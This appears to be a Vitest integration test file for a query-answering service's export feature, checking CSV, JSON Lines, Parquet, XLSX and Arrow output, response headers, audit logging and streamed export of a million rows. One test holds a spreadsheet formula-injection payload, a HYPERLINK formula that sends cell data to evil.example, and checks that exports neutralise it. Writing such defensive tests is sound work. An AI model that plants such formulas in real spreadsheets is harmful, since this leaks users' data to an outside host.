import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { queryAsAdmin } from '../house/look-behind.js';
import { beginSession, type Session } from '../isolation/session.js';
import { downloaded, exportedNow, exportRun, openLink, ranSql } from './exporting.js';

const QUESTION = 'how many customers are there by region';
const ASK = `mutation ($input: AskInput!) { ask(input: $input) { id status result { columns { name } rows } } }`;

let session: Session;
let folder = '';
let answer: { id: string; columns: string[]; rows: (string | number)[][] };

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'parley-exports-'));
  session = await beginSession('healthplus', 'owner');
  const [asked] = await session.ask(ASK, { input: { question: QUESTION, waitMs: 20_000 } });
  const { id, status, result } = asked?.data.ask ?? {};
  expect(status).toBe('SUCCEEDED');
  answer = { id, columns: result.columns.map((column: { name: string }) => column.name), rows: result.rows };
  expect(answer.rows.length).toBeGreaterThan(1);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** As DuckDB reads a file. */
async function readByDuckDb(
  file: Buffer,
  name: string,
  call: string,
): Promise<{ names: string[]; rows: unknown[][] }> {
  const path = join(folder, name);
  await writeFile(path, file);
  const database = await DuckDBInstance.create(':memory:');
  try {
    const connection = await database.connect();
    const read = await connection.runAndReadAll(`SELECT * FROM ${call}('${path}')`);
    return { names: read.columnNames(), rows: read.getRowsJson() as unknown[][] };
  } finally {
    database.closeSync();
  }
}

describe('an answered question', () => {
  it.each([
    ['CSV', 'read_csv', 'text/csv; charset=utf-8; header=present'],
    ['JSON_LINES', 'read_json', 'application/jsonl; charset=utf-8'],
    ['PARQUET', 'read_parquet', 'application/vnd.apache.parquet'],
  ] as const)('comes as %s, which DuckDB reads as the same rows', async (format, call, contentType) => {
    const exported = await exportRun(session, { runId: answer.id, format });
    expect(exported).toMatchObject({ status: 'READY', totalRows: answer.rows.length, bytes: 0, error: null });
    const response = await openLink(exported.url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(contentType);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${exported.fileName}"`);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const file = Buffer.from(await response.arrayBuffer());
    const { names, rows } = await readByDuckDb(file, exported.fileName, call);
    expect(names).toEqual(answer.columns);
    expect(rows.map((row) => row.map(String))).toEqual(answer.rows.map((row) => row.map(String)));
    const rowCount = answer.rows.length;
    expect(await exportedNow(session, exported.id)).toMatchObject({
      status: 'COMPLETED',
      rowCount,
      bytes: file.byteLength,
      url: null,
    });
  });

  it('comes as XLSX', async () => {
    const { url } = await exportRun(session, { runId: answer.id, format: 'XLSX' });
    const { sheets } = await readXlsx(await downloaded(url));
    const [names, ...rows] = sheets[0]?.rows ?? [];
    expect(names).toEqual(answer.columns);
    expect(rows.map((row) => row.map(String))).toEqual(answer.rows.map((row) => row.map(String)));
  });

  it('comes as Arrow', async () => {
    const { url } = await exportRun(session, { runId: answer.id, format: 'ARROW' });
    const table = tableFromIPC(await downloaded(url));
    expect(table.schema.names).toEqual(answer.columns);
    const rows = table.toArray().map((row) => Object.values(row.toJSON()).map(String));
    expect(rows).toEqual(answer.rows.map((row) => row.map(String)));
  });

  it('is announced by HEAD without being used up', async () => {
    const { url } = await exportRun(session, { runId: answer.id, format: 'CSV' });
    const head = await openLink(url, { method: 'HEAD' });
    expect([head.status, head.headers.get('content-disposition')]).toEqual([
      200,
      expect.stringContaining('.csv"'),
    ]);
    expect((await downloaded(url)).toString()).toContain('\r\n');
  });

  it('is written down in the audit log: who, what, and how many rows', async () => {
    const exported = await exportRun(session, { runId: answer.id, format: 'CSV' });
    const file = await downloaded(exported.url);
    const entries = await queryAsAdmin(
      `SELECT a.action, a.details, u.email FROM audit.audit_entries a JOIN identity.users u ON u.id = a.actor_id
       WHERE a.target = $1 ORDER BY a.at`,
      { values: [exported.id] },
    );
    expect(entries).toEqual([
      { action: 'export.created', email: session.login.email, details: { runId: answer.id, format: 'CSV' } },
      {
        action: 'export.completed',
        email: session.login.email,
        details: { rows: answer.rows.length, bytes: file.byteLength },
      },
    ]);
  });
});

const FORMULA = `=HYPERLINK("http://evil.example?x="&A1,"click")`;

it('a formula that somebody put into the data is none in a spreadsheet', async () => {
  const runId = await ranSql(session, `SELECT '${FORMULA}' AS name, -5 AS amount, '@x' AS "=head"`);
  const csv = await exportRun(session, { runId, format: 'CSV' });
  const [head, line] = (await downloaded(csv.url)).toString().split('\r\n');
  expect(head).toBe("\ufeffname,amount,'=head");
  expect(line).toBe(`"'${FORMULA.replaceAll('"', '""')}",-5,'@x`);

  const xlsx = await exportRun(session, { runId, format: 'XLSX' });
  const { sheets } = await readXlsx(await downloaded(xlsx.url), { readStyles: true });
  expect(sheets[0]?.rows[1]).toEqual([FORMULA, -5, '@x']);
  const formulas = [...(sheets[0]?.cells?.values() ?? [])].filter((cell) => cell.formula !== undefined);
  expect(formulas).toEqual([]);
});

const ROWS = 1_000_000;
const MIB = 1024 ** 2;
/** The file has more. */
const MOST_GROWTH = 96 * MIB;

describe('a million rows', () => {
  it('go through the house as CSV at the reader’s pace, and are never held', async () => {
    const runId = await ranSql(
      session,
      `SELECT g AS n, repeat('x', 120) AS filler, (g::numeric / 100)::numeric(12, 2) AS amount FROM generate_series(1, ${ROWS}) AS g`,
    );
    const exported = await exportRun(session, { runId, format: 'CSV' });
    const before = await houseBytes();
    const response = await openLink(exported.url);
    let bytes = 0;
    let lines = 0;
    let most = 0;
    for await (const piece of response.body ?? []) {
      if (bytes === 0) await new Promise((resolve) => setTimeout(resolve, 2_500));
      // What waited for us while we slept is what the connection holds, not the file.
      if (bytes === 0) expect((await exportedNow(session, exported.id))?.bytes).toBeLessThan(32 * MIB);
      bytes += piece.byteLength;
      for (let at = piece.indexOf(10); at !== -1; at = piece.indexOf(10, at + 1)) lines += 1;
      if (lines % 100 === 0) most = Math.max(most, await houseBytes());
    }
    expect(lines).toBe(ROWS + 1);
    expect(bytes).toBeGreaterThan(MOST_GROWTH);
    expect(most - before).toBeLessThan(MOST_GROWTH);
    expect(await exportedNow(session, exported.id)).toMatchObject({
      status: 'COMPLETED',
      rowCount: ROWS,
      bytes,
    });
  });
});

/** What the house's process has in memory. */
async function houseBytes(): Promise<number> {
  const status = await readFile(`/proc/${inject('embedded').pid}/status`, 'utf8');
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1]) * 1024;
}
